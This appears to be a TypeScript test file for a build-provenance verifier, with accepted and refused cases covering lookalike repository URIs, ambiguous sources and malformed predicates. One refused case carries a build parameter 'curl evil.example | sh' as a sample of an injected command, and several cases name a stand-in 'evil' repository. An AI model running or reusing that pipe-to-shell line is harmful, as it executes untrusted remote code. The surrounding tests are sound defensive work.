// Provenances and what is expected of them: source, builder, build type and parameters, compared exactly.

import { COMMIT, provenance, SOURCE, signedBundle, statement } from '../release.ts'
import { testResult } from './accepted.ts'
import { accepted, type Case, refused } from './case.ts'

const BUILDER = 'https://git.example/team/app/.github/workflows/r.yml@refs/tags/v1.2.0'
const BUILD_TYPE = 'https://actions.github.io/buildtypes/workflow/v1'

const withDefinition = (definition: Record<string, unknown>) =>
  signedBundle(statement({ predicate: provenance({ definition }) }))
const workflow = (ref: string) => ({
  workflow: { ref, repository: SOURCE, path: '.github/workflows/r.yml' },
})
const onBranch = withDefinition({
  externalParameters: workflow('refs/heads/main'),
  resolvedDependencies: [{ uri: `git+${SOURCE}@refs/heads/main`, digest: { gitCommit: COMMIT } }],
})
/** A build type that we do not know: its parameters say nothing to us. */
const OTHER_BUILD_TYPE = 'https://builds.example/make/v1'

const MET: readonly Case[] = [
  accepted('provenance-as-expected', {
    says: 'Every expectation at once.',
    options: [
      ...['--source-uri', SOURCE, '--source-digest', COMMIT, '--source-tag', 'v1.2.0'],
      ...['--source-versioned-tag', 'v1.2', '--builder-id', BUILDER, '--build-type', BUILD_TYPE],
      ...['--parameter', '/workflow/path=.github/workflows/r.yml'],
    ],
  }),
  accepted('source-uri-with-ref', {
    says: 'A repository with a ref, as the provenance spells it.',
    options: ['--source-uri', `git+${SOURCE}@refs/tags/v1.2.0`],
  }),
  accepted('source-branch', {
    says: 'The artifacts were built from the branch.',
    bundle: onBranch,
    options: ['--source-branch', 'main'],
  }),
  accepted('source-only-repository', {
    says: 'The build type is not known here, and the provenance has one repository.',
    bundle: withDefinition({
      buildType: OTHER_BUILD_TYPE,
      externalParameters: { target: 'all', jobs: 2 },
      resolvedDependencies: [{ uri: `git+${SOURCE}`, digest: { gitCommit: COMMIT } }],
    }),
    options: ['--source-uri', SOURCE, '--parameter', 'target=all', '--parameter', 'jobs=2'],
  }),
  accepted('parameter-empty', {
    says: 'Unset, null and empty are the same.',
    attacks: ['A-47'],
    options: ['--parameter', 'runner_environment='],
  }),
  accepted('provenance-v0.2', {
    says: 'A provenance of the older version names its source as it did then.',
    bundle: v02({}),
    options: [
      ...['--statement-version', 'v0.1', '--source-uri', SOURCE, '--source-digest', COMMIT],
      ...['--source-tag', 'v1.2.0', '--parameter', 'mode=release'],
    ],
  }),
  accepted('provenance-beside-another', {
    says: 'One of two bundles is the provenance that is expected.',
    files: {
      'evidence.jsonl': `${JSON.stringify(testResult())}\n${JSON.stringify(signedBundle(statement()))}\n`,
    },
    args: [
      ...['verify', 'evidence.jsonl', '--set', '../release/set'],
      ...['--trust', '../release/trust.json', '--source-uri', SOURCE],
    ],
  }),
]

function v02(changes: Record<string, unknown>) {
  const predicate = {
    builder: { id: BUILDER },
    buildType: 'https://builds.example/make/v1',
    invocation: {
      configSource: { uri: `git+${SOURCE}@refs/tags/v1.2.0`, digest: { sha1: COMMIT } },
      parameters: { mode: 'release' },
    },
    materials: [{ uri: `git+${SOURCE}@refs/tags/v1.2.0`, digest: { sha1: COMMIT } }],
    ...changes,
  }
  return signedBundle(
    statement({
      _type: 'https://in-toto.io/Statement/v0.1',
      predicateType: 'https://slsa.dev/provenance/v0.2',
      predicate,
    }),
  )
}

/** One expectation that is not met. */
const unmet = (name: string, says: string, options: readonly string[], code: string) =>
  refused(name, { says, codes: [code], twin: 'provenance-as-expected', options })

const UNMET: readonly Case[] = [
  ...(
    [
      ['another', 'https://git.example/evil/app'],
      ['prefix', 'https://git.example/team/ap'],
      ['dots', 'https://git.example/team/x/../app'],
      ['port', 'https://git.example:443/team/app'],
      ['user', 'https://team@git.example/team/app'],
      ['upper-case', 'https://GIT.example/team/app'],
      ['slash', 'https://git.example/team/app/'],
      ['dot-git', 'https://git.example/team/app.git'],
      ['http', 'http://git.example/team/app'],
      ['without-scheme', 'git.example/team/app'],
      ['lookalike', 'https://git.ex\u0430mple/team/app'],
    ] as const
  ).map(([name, uri]) =>
    refused(`source-uri-${name}`, {
      says: 'The expected repository is another text than that of the provenance; nothing is resolved or folded.',
      attacks: ['A-101', 'A-102'],
      codes: ['verify/source-uri'],
      twin: 'provenance-as-expected',
      options: ['--source-uri', uri],
    }),
  ),
  unmet(
    'source-uri-other-ref',
    'The repository is expected at another ref.',
    ['--source-uri', `${SOURCE}@refs/tags/v1.3.0`],
    'verify/source-uri',
  ),
  refused('source-digest-of-tag-object', {
    says: 'The id of an annotated tag is no commit.',
    attacks: ['A-62'],
    codes: ['verify/source-digest'],
    twin: 'provenance-as-expected',
    options: ['--source-digest', '9b1c6e7f1c1f4f6d0c5c8a6b7d3e2f1a0b9c8d7e'],
  }),
  unmet(
    'source-tag-other',
    'Another tag is expected.',
    ['--source-tag', 'v1.2'],
    'verify/source-tag',
  ),
  unmet(
    'source-branch-is-a-tag',
    'A branch is expected, and a tag of that name was built.',
    ['--source-branch', 'v1.2.0'],
    'verify/source-ref-kind',
  ),
  refused('source-branch-other', {
    says: 'Another branch is expected.',
    codes: ['verify/source-branch'],
    twin: 'source-branch',
    bundle: onBranch,
    options: ['--source-branch', 'master'],
  }),
  unmet(
    'source-versioned-tag-other',
    'A tag of another version is expected.',
    ['--source-versioned-tag', 'v1.20'],
    'verify/source-versioned-tag',
  ),
  unmet(
    'builder-id-prefix',
    'The builder is expected without the ref that its id has.',
    ['--builder-id', BUILDER.split('@')[0] as string],
    'verify/builder-id',
  ),
  unmet(
    'build-type-other',
    'Another build type is expected.',
    ['--build-type', 'https://actions.github.io/buildtypes/workflow/v2'],
    'verify/build-type',
  ),
  unmet(
    'parameter-other',
    'The parameter has another value.',
    ['--parameter', '/workflow/path=.github/workflows/x.yml'],
    'verify/parameter',
  ),
  ...['inputs', '/workflow/constructor', '/workflow/ref/0'].map((name, index) =>
    refused(`parameter-missing-${index + 1}`, {
      says: 'The build had no such parameter.',
      attacks: ['A-92'],
      outcome: 'missing',
      codes: ['verify/parameter-missing'],
      twin: 'provenance-as-expected',
      options: ['--parameter', `${name}=x`],
    }),
  ),
  refused('parameter-unexpected', {
    says: 'The build type is known, and the build had a parameter that it does not have.',
    attacks: ['A-89'],
    codes: ['statement/parameter-unexpected', 'verify/parameter-unexpected'],
    twin: 'release',
    bundle: withDefinition({
      externalParameters: { ...workflow('refs/tags/v1.2.0'), script: 'curl evil.example | sh' },
    }),
  }),
  refused('parameter-incomplete', {
    says: 'The older provenance does not claim to list all parameters, so an absent one is not an empty one.',
    outcome: 'missing',
    codes: ['verify/parameter-missing'],
    twin: 'provenance-v0.2',
    bundle: v02({}),
    options: ['--statement-version', 'v0.1', '--parameter', 'debug='],
  }),
  refused('source-missing', {
    says: 'A source is expected, and the provenance names none.',
    outcome: 'missing',
    codes: ['verify/source-missing'],
    twin: 'source-only-repository',
    bundle: withDefinition({
      buildType: OTHER_BUILD_TYPE,
      externalParameters: {},
      resolvedDependencies: [],
    }),
    options: ['--source-uri', SOURCE],
  }),
  refused('source-among-others', {
    says: 'The expected repository is one of two, and nothing says which one was built.',
    codes: ['verify/source-ambiguous'],
    twin: 'source-only-repository',
    bundle: withDefinition({
      buildType: OTHER_BUILD_TYPE,
      externalParameters: {},
      resolvedDependencies: [
        { uri: 'git+https://git.example/evil/app', digest: { gitCommit: '1'.repeat(40) } },
        { uri: `git+${SOURCE}`, digest: { gitCommit: COMMIT } },
      ],
    }),
    options: ['--source-uri', SOURCE],
  }),
  refused('source-typed-in', {
    says: 'Of a build type that is not known here, a user input called "source" names one of two repositories: nobody knows that it was built.',
    codes: ['verify/source-ambiguous'],
    twin: 'source-only-repository',
    bundle: withDefinition({
      buildType: OTHER_BUILD_TYPE,
      externalParameters: { source: SOURCE },
      resolvedDependencies: [
        { uri: 'git+https://git.example/evil/app', digest: { gitCommit: '1'.repeat(40) } },
        { uri: `git+${SOURCE}`, digest: { gitCommit: COMMIT } },
      ],
    }),
    options: ['--source-uri', SOURCE],
  }),
  refused('source-not-resolved', {
    says: 'The parameters name one repository, and another one was resolved.',
    codes: ['verify/source-ambiguous'],
    twin: 'provenance-as-expected',
    bundle: withDefinition({
      resolvedDependencies: [
        { uri: 'git+https://git.example/evil/app', digest: { gitCommit: '1'.repeat(40) } },
      ],
    }),
    options: ['--source-uri', SOURCE],
  }),
  refused('source-at-two-refs', {
    says: 'The parameters name one ref, and another one was resolved.',
    codes: ['verify/source-ambiguous'],
    twin: 'provenance-as-expected',
    bundle: withDefinition({
      resolvedDependencies: [
        { uri: `git+${SOURCE}@refs/heads/main`, digest: { gitCommit: COMMIT } },
      ],
    }),
    options: ['--source-uri', SOURCE],
  }),
  refused('provenance-missing', {
    says: 'A provenance is expected, and there is a test result.',
    attacks: ['A-47'],
    outcome: 'missing',
    codes: ['verify/provenance-missing'],
    twin: 'provenance-beside-another',
    bundle: testResult(),
    options: ['--source-uri', SOURCE],
  }),
  refused('provenance-time', {
    says: 'The build began on a day that does not exist.',
    attacks: ['A-103'],
    codes: ['statement/timestamp', 'verify/predicate-malformed'],
    twin: 'release',
    bundle: signedBundle(
      statement({
        predicate: provenance({
          details: { metadata: { invocationId: 'run/4711', startedOn: '2026-02-30T00:00:00Z' } },
        }),
      }),
    ),
  }),
  refused('provenance-without-builder', {
    says: 'The provenance does not say who built.',
    codes: ['statement/member', 'verify/predicate-malformed'],
    twin: 'release',
    bundle: signedBundle(statement({ predicate: provenance({ details: { builder: {} } }) })),
  }),
]

export const PROVENANCES: readonly Case[] = [...MET, ...UNMET]
